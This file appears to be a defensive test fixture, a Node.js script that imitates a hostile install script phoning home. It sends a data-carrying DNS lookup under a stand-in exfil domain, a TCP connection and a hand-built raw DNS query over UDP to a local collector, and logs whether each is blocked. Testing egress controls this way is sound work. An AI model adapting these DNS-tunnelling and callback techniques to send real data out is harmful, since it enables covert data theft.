// A hostile install script that phones home, the ways real ones do: a DNS
// lookup through the system's resolver of a name that carries data, a TCP
// connection to the attacker's server, and DNS queries sent straight to it
// over UDP. The collector (port in ./collector.json) records what arrives.
const dgram = require("dgram");
const dns = require("dns");
const fs = require("fs");
const net = require("net");
const path = require("path");

const { port } = JSON.parse(fs.readFileSync(path.join(__dirname, "collector.json"), "utf8"));
const name = `${Buffer.from("evil-net").toString("hex")}.exfil.airlock-test.example`;
const attempts = [];
const record = (a) => attempts.push(a);

const lookup = new Promise((done) => {
  dns.lookup(name, (err, address) => {
    record({ name: "DNS lookup through the system resolver", target: name,
             result: err ? "refused" : "done", error: err ? err.code : undefined, address });
    done();
  });
});

const tcp = new Promise((done) => {
  const socket = net.connect({ host: "127.0.0.1", port }, () => socket.end("evil-net over TCP\n"));
  socket.setTimeout(3000, () => socket.destroy(Object.assign(new Error("timeout"), { code: "ETIMEDOUT" })));
  socket.on("error", (e) => { socket.lastError = e.code || String(e); });
  socket.on("close", () => {
    record({ name: "TCP to the collector", target: `127.0.0.1:${port}`,
             result: socket.bytesWritten > 0 ? "done" : "refused", error: socket.lastError });
    done();
  });
});

const udp = new Promise((done) => {
  // A DNS query (id 0x4e45, one question, type A) for the data-carrying name.
  const labels = Buffer.concat(name.split(".").map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])));
  const query = Buffer.concat([Buffer.from([0x4e, 0x45, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), labels,
                               Buffer.from([0, 0, 1, 0, 1])]);
  const socket = dgram.createSocket("udp4");
  const finish = (result, error) => {
    record({ name: "DNS over UDP to the collector", target: `127.0.0.1:${port}`, result, error });
    socket.close();
    done();
  };
  const timer = setTimeout(() => finish("refused", "ETIMEDOUT"), 3000);
  socket.on("error", (e) => { clearTimeout(timer); finish("refused", e.code || String(e)); });
  socket.on("message", () => { clearTimeout(timer); finish("done"); });
  socket.send(query, port, "127.0.0.1", (e) => { if (e) { clearTimeout(timer); finish("refused", e.code || String(e)); } });
});

Promise.all([lookup, tcp, udp]).then(() => {
  fs.writeFileSync(path.join(__dirname, "attempts.json"), JSON.stringify(attempts, null, 1));
  for (const a of attempts)
    console.log(`evil-net: ${a.name} (${a.target}): ${a.result}${a.error ? " " + a.error : ""}`);
});
